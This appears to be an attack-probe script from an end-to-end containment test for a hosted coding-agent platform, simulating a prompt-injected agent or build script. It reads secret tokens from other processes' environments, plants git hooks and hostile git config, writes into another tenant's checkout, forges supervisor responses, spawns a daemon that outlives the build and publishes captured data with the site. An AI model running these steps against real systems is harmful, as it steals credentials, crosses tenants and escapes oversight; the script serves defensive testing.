// The attack probe: what a prompt-injected agent, or a build script it wrote, tries against the worker.
// Run by the fake agent (`@fake attack`) as a Bash tool call would ("agent" phase) and wired into the
// site's build script ("build" phase). Each attempt is recorded as reached or not, with what happened;
// the report goes to public/attack-<phase>.json, so whatever it captured is published with the site (the
// exfiltration path the containment issue found). tests/e2e/test_containment.py reads the reports, the
// bucket, the remote and the markers the planted git code would leave.
//
// Usage: node attack.mjs agent|build|postbuild   (targets in ./attack-targets.json, written by the agent:
//   {markers, otherCheckout, repoUrl, networkHost, networkPort, ownThread, linkBuildFolder})
import { spawn } from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";

const [phase] = process.argv.slice(2);
const targets = JSON.parse(fs.readFileSync("attack-targets.json", "utf8"));
const checkout = process.cwd();
const repo = path.basename(checkout);
const workspace = path.resolve(checkout, "..", "..", "..");
const [client, user] = path.relative(workspace, checkout).split(path.sep);
const beside = path.join(path.dirname(checkout), `.${repo}.git`);
const SECRET_NAMES = [
  "GITHUB_TOKEN",
  "WEBORDINARY_GIT_TOKEN",
  "AWS_SECRET_ACCESS_KEY",
  "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
  "ANTHROPIC_API_KEY",
];
const report = { phase, uid: process.getuid(), pid: process.pid, findings: {} };

function note(name, reached, detail) {
  report.findings[name] = { reached, detail: String(detail).slice(0, 400) };
}

function attempt(name, action) {
  try {
    note(name, true, action() ?? "done");
  } catch (error) {
    note(name, false, error.code || error.message);
  }
}

// 1. Secrets in any process's environment we can read (PID 1 first: tini keeps the container's).
function secretsIn(pid) {
  const text = fs.readFileSync(`/proc/${pid}/environ`, "latin1");
  return text
    .split("\0")
    .filter((entry) => SECRET_NAMES.some((name) => entry.startsWith(`${name}=`)))
    .map((entry) => `${pid}:${entry}`);
}
attempt("pid1Environment", () => {
  const found = secretsIn(1);
  if (!found.length) throw new Error("readable, no secret in it");
  return found.join(" ");
});
const stolen = [];
let readable = 0;
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  if (Number(pid) === process.pid) continue;
  try {
    stolen.push(...secretsIn(pid));
    readable += 1;
  } catch {
    // not ours to read
  }
}
note("otherEnvironments", stolen.length > 0, stolen.length ? stolen.join(" ") : `${readable} readable, none with a secret`);

// 2. Our own environment (what the worker handed this phase).
const own = SECRET_NAMES.filter((name) => process.env[name]).map((name) => `${name}=${process.env[name]}`);
note("ownEnvironment", own.length > 0, own.join(" ") || "no secret");

// 3. Git code for the worker's git to run: hooks and config entries, in a `.git` planted in the checkout
// and in the real repository beside it.
const marker = (name) => `#!/bin/sh\necho "$WEBORDINARY_GIT_TOKEN $(id -u)" > ${targets.markers}/${name}-${phase}\n`;
const configEntries = [
  "[core]",
  `\tfsmonitor = ${targets.markers}/run.sh fsmonitor`,
  `\thooksPath = ${path.join(checkout, ".git", "hooks")}`,
  '[filter "pwn"]',
  `\tclean = ${targets.markers}/run.sh filter`,
  '[remote "origin"]',
  `\treceivepack = ${targets.markers}/run.sh receivepack`,
  `[url "${targets.markers}/evil.git"]`,
  `\tpushInsteadOf = ${targets.repoUrl}`,
  "[hook \"pwn\"]",
  "\tevent = pre-push",
  `\tcommand = ${targets.markers}/run.sh confighook`,
].join("\n");
function plant(gitDir) {
  fs.mkdirSync(path.join(gitDir, "hooks"), { recursive: true });
  for (const hook of ["pre-push", "post-commit", "reference-transaction", "pre-commit"]) {
    fs.writeFileSync(path.join(gitDir, "hooks", hook), marker(`hook-${hook}`), { mode: 0o755 });
  }
  fs.appendFileSync(path.join(gitDir, "config"), `\n${configEntries}\n`);
  return gitDir;
}
attempt("plantedGitDir", () => plant(path.join(checkout, ".git")));
attempt("realRepository", () => plant(beside));
attempt("gitattributes", () => fs.writeFileSync(path.join(checkout, ".gitattributes"), "* filter=pwn\n"));

// 4. The ledger: a pending push naming main, pushed by the worker with its own token.
attempt("ledger", () => {
  fs.mkdirSync(path.join(beside, "webordinary"), { recursive: true });
  fs.writeFileSync(path.join(beside, "webordinary", "pending-pushes.json"), JSON.stringify(["main"]));
});

// 5. Another client's checkout: a page their next command would publish.
attempt("otherTenant", () => {
  const page = path.join(targets.otherCheckout, "src", "pages", "pwned.astro");
  fs.writeFileSync(page, "<p>planted by another tenant</p>\n");
  return page;
});

// 6. The supervisor's own folder: a forged final response, and the status file's session ids.
attempt("supervisorFolder", () => {
  const folder = path.join(workspace, ".supervisor", "answered");
  fs.writeFileSync(path.join(folder, "forged.sending"), JSON.stringify({ commandId: "victim", success: true }));
});
attempt("statusFile", () =>
  fs
    .readdirSync(path.join(workspace, ".supervisor"))
    .filter((name) => name.startsWith("status-"))
    .map((name) => fs.readFileSync(path.join(workspace, ".supervisor", name), "utf8").slice(0, 80))
    .join(" "),
);

// 7. Other threads' conversations (the agent's memory), and our own session records.
attempt("otherThreads", () => {
  const threads = path.join(workspace, ".agent", client, user, repo, "threads");
  const others = fs.readdirSync(threads).filter((name) => !name.endsWith(".json") && name !== targets.ownThread);
  if (!others.length) throw new Error("no other thread visible");
  const read = others.flatMap((name) => fs.readdirSync(path.join(threads, name)));
  return `${others.join(",")}: ${read.join(",")}`;
});

// 8. Signals to the worker and the supervisor (processes we did not start).
attempt("signalWorker", () => {
  const victims = fs
    .readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => {
      try {
        return /steps\.worker|-m\0supervisor/.test(fs.readFileSync(`/proc/${pid}/cmdline`, "latin1"));
      } catch {
        return false;
      }
    });
  if (!victims.length) throw new Error("no worker or supervisor visible");
  const signalled = victims.filter((pid) => {
    try {
      process.kill(Number(pid), 0);
      return true;
    } catch {
      return false;
    }
  });
  if (!signalled.length) throw new Error(`EPERM for ${victims.length} visible`);
  return signalled.join(",");
});

// 9. After the build: a daemon that outlives it and keeps writing into the build folder while it is
// deployed; links out of the build (a host file, the supervisor's folder, the workspace); or the whole
// build folder swapped for a link to the workspace root.
if (phase === "postbuild") {
  const daemon = spawn(
    process.execPath,
    ["-e", `setInterval(() => { try { require("fs").appendFileSync("dist/late.txt", "x") } catch {} }, 50)`],
    { detached: true, stdio: "ignore" },
  );
  daemon.unref();
  note("daemon", true, daemon.pid);
  attempt("linksInBuild", () => {
    fs.symlinkSync("/etc/hostname", path.join(checkout, "dist", "hostname.txt"));
    fs.symlinkSync(path.join(workspace, ".supervisor"), path.join(checkout, "dist", "supervisor"));
    fs.symlinkSync(workspace, path.join(checkout, "dist", "workspace"));
  });
  if (targets.linkBuildFolder) {
    attempt("linkedBuildFolder", () => {
      fs.renameSync(path.join(checkout, "dist"), path.join(checkout, "dist-real"));
      fs.symlinkSync("../../..", path.join(checkout, "dist"));
    });
  }
}

// 10. The network: the cloud API endpoint, straight.
const connected = await new Promise((resolve) => {
  const socket = net.connect({ host: targets.networkHost, port: targets.networkPort, timeout: 2000 });
  socket.on("connect", () => {
    socket.destroy();
    resolve("connected");
  });
  socket.on("timeout", () => {
    socket.destroy();
    resolve(null);
  });
  socket.on("error", () => resolve(null));
});
note("network", connected !== null, connected ?? "refused or unreachable");

// The report is published with the site: in public/ before the build copies it, in the build after.
const folder = phase === "postbuild" ? "dist-real" : "public";
const out = fs.existsSync(path.join(checkout, folder)) ? folder : phase === "postbuild" ? "dist" : "public";
fs.mkdirSync(path.join(checkout, out), { recursive: true });
fs.writeFileSync(path.join(checkout, out, `attack-${phase}.json`), JSON.stringify(report, null, 1));
process.stdout.write(`attack probe (${phase}): ${JSON.stringify(report)}\n`);
